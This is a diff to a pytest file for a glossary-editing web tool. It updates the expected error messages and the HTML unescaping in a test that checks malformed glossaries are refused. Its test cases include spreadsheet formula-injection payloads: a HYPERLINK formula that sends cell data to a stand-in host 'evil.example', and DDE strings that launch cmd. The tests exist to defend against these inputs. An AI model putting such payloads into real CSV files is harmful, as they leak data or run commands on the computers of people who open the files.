@@ -424,14 +424,15 @@ def test_a_glossary_edited_in_its_table_is_the_csv_the_checks_read(project, desk
 
 
 @pytest.mark.parametrize(("rows", "message"), [
+    # (Named by its words: the page numbers no row, and shows its new rows first.)
     ([("genocide", "génocide", ""), ("Genocide", "génocide", "")],
-     "Row 2 repeats a term given above"),
-    ([("solidarity", "", "")], "Row 1 needs both a term and its rendering."),
+     "The term “Genocide” is given twice"),
+    ([("solidarity", "", "")], "The row “solidarity” needs both a term and its rendering."),
     # A cell a spreadsheet would run as a formula when a coordinator opens glossary.csv.
     ([("war", "guerre", ""), ('=HYPERLINK("https://evil.example/?"&A1,"x")', "y", "")],
-     "Row 2 begins with"),
-    ([("peace", "+cmd|' /C calc'!A0", "")], "Row 1 begins with"),
-    ([("peace", "paix", "@SUM(1+1)*cmd|' /C calc'!A0")], "Row 1 begins with"),
+     'The row “=HYPERLINK("https://evil.example/?"&A1,"x")” begins with'),
+    ([("peace", "+cmd|' /C calc'!A0", "")], "The row “peace” begins with"),
+    ([("peace", "paix", "@SUM(1+1)*cmd|' /C calc'!A0")], "The row “peace” begins with"),
 ])
 def test_a_malformed_glossary_is_refused_and_nothing_written(project, desk_crew, rows,
                                                              message):
@@ -440,7 +441,7 @@ def test_a_malformed_glossary_is_refused_and_nothing_written(project, desk_crew,
     version = re.search(r'name="version" value="([0-9a-f]{64})"', page).group(1)
     before = tree_digest(project.root)
     response = client.post("/desk/fr/glossary/", _glossary_form(rows, version))
-    html = response.content.decode()
+    html = unescape(response.content.decode())
     assert message in html and html.count('role="alert"') == 1
     assert tree_digest(project.root) == before
 
